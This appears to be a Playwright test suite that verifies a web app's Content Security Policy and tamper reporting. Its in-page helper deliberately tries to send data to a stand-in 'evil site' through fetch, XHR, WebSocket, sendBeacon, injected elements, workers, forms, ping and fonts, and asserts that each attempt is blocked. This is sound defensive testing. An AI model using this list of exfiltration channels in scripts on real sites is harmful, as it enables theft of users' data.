import { expect, test } from 'playwright/test'
import { openEvilSite } from '#proof/campaigns/tamper/evil-site.ts'
import { readBuild, tryAlteration } from '#proof/campaigns/tamper/try-alteration.ts'
import { visitInChromium } from '#proof/campaigns/tamper/visit-in-chromium.ts'
import { seedOf, TAMPER_SLICE } from './tamper-slice.ts'
import { PROOF } from './proof.ts'

test(
  'S-45 S-46: changed or injected content does not run, sends nothing, and is counted',
  PROOF,
  async ({ browser }) => {
    test.setTimeout(240_000)
    const build = await readBuild()
    const openVisit = () => visitInChromium(browser, build.hashes)
    for (const kind of TAMPER_SLICE) {
      const { faults, reports } = await tryAlteration(openVisit, build, seedOf(kind))
      expect.soft({ kind, faults }).toEqual({ kind, faults: [] })
      expect.soft(reports, kind).not.toEqual([])
    }
  },
)

test('S-46: a page without hydration reports it', async ({ page }) => {
  const reports: unknown[] = []
  await page.clock.install()
  await page.route('**/assets/entry-*', () => undefined)
  await page.route('**/reports', (route) => {
    reports.push(route.request().postDataJSON())
    return route.fulfill({ status: 204 })
  })
  await page.goto('/c/x', { waitUntil: 'commit' })
  await page.getByRole('heading').waitFor()
  await page.clock.fastForward(30_000)
  await expect.poll(() => reports).toEqual([{ kind: 'not_started', what: '', page: '/c/x' }])
})

test('S-49: an injected script cannot send data, except by navigation', async ({
  context,
  page,
}) => {
  const evil = await openEvilSite()
  // Keeps the violations out of the operator's metric.
  await page.route('**/reports', (route) => route.fulfill({ status: 204 }))
  await page.goto('/c/x')
  const failed = await page.evaluate(tryEveryChannel, evil.origin)
  expect(failed).toEqual({
    fetch: 'TypeError',
    'fetch without CORS': 'TypeError',
    XMLHttpRequest: 'error',
    WebSocket: 'error',
    EventSource: 'error',
    Worker: 'TypeError',
    'service worker': 'TypeError',
    object: 'TypeError',
    'frame with its text': 'TypeError',
    import: 'TypeError',
    eval: 'EvalError',
    markup: 'TypeError',
  })
  const refused = () => page.evaluate(() => [...window.refusedByPolicy].toSorted())
  await expect
    .poll(refused)
    .toEqual([
      'connect-src',
      'default-src',
      'font-src',
      'form-action',
      'frame-src',
      'img-src',
      'media-src',
      'require-trusted-types-for',
      'script-src-elem',
      'style-src-elem',
    ])
  expect(evil.asked).toEqual([])

  // No policy can block these two, which is why the page never contains the card.
  const [opened] = await Promise.all([
    context.waitForEvent('page'),
    page.evaluate((url) => void window.open(`${url}/opened`), evil.origin),
  ])
  await opened.waitForURL(`${evil.origin}/opened`)
  expect(await opened.evaluate(() => window.opener === null)).toBe(true)
  await page.evaluate((url) => location.assign(`${url}/away`), evil.origin)
  await page.waitForURL(`${evil.origin}/away`)
  await evil.close()
})

declare global {
  interface Window {
    refusedByPolicy: Set<string>
  }
}

/** Runs in the page: tries every channel of exfiltration; returns the error of each that fails with one. */
async function tryEveryChannel(evil: string): Promise<Record<string, string>> {
  const url = `${evil}/leak?4242`
  const failures: Record<string, string> = {}
  window.refusedByPolicy = new Set()
  addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
    window.refusedByPolicy.add(effectiveDirective)
  })
  const attempt = async (name: string, make: () => unknown) => {
    try {
      await make()
      failures[name] = 'it went through'
    } catch (error) {
      failures[name] = error instanceof Error ? error.name : 'error'
    }
  }
  const broken = (target: EventTarget) =>
    new Promise((resolve, reject) => {
      for (const type of ['open', 'load', 'message']) target.addEventListener(type, resolve)
      target.addEventListener('error', () => reject('error'))
    })

  await attempt('fetch', () => fetch(url, { method: 'POST', body: '4242' }))
  await attempt('fetch without CORS', () => fetch(url, { mode: 'no-cors' }))
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest()
    request.open('GET', url)
    request.send()
    return broken(request)
  })
  await attempt('WebSocket', () => broken(new WebSocket(url.replace('http', 'ws'))))
  await attempt('EventSource', () => broken(new EventSource(url)))
  navigator.sendBeacon(url, '4242')
  await attempt('markup', () => {
    document.body.innerHTML = `<img src="${url}">`
  })
  await attempt('eval', () => Reflect.construct(Function, ['return 1']))
  await attempt('import', () => import(url))
  const elements: [string, Record<string, string>][] = [
    ['img', { src: url }],
    ['video', { src: url }],
    ['iframe', { src: url }],
    ['link', { rel: 'stylesheet', href: url }],
    ['link', { rel: 'prefetch', href: url }],
    ['link', { rel: 'preload', as: 'image', href: url }],
  ]
  await attempt('Worker', () => new Worker(url))
  await attempt('service worker', () => navigator.serviceWorker.register('/favicon.svg'))
  await attempt('object', () => document.createElement('object').setAttribute('data', url))
  await attempt('frame with its text', () => {
    document.createElement('iframe').srcdoc = '<script>parent.ran = 1</script>'
  })
  for (const [name, attributes] of elements) {
    const element = document.createElement(name)
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
    document.body.append(element)
  }
  document.body.style.background = `url(${url})`
  await new FontFace('leak', `url(${url})`).load().catch(() => undefined)
  const form = document.body.appendChild(document.createElement('form'))
  Object.assign(form, { action: url, method: 'post' })
  form.submit()
  const ping = document.body.appendChild(document.createElement('a'))
  ping.setAttribute('ping', url)
  ping.setAttribute('href', '#here')
  ping.click()
  return failures
}
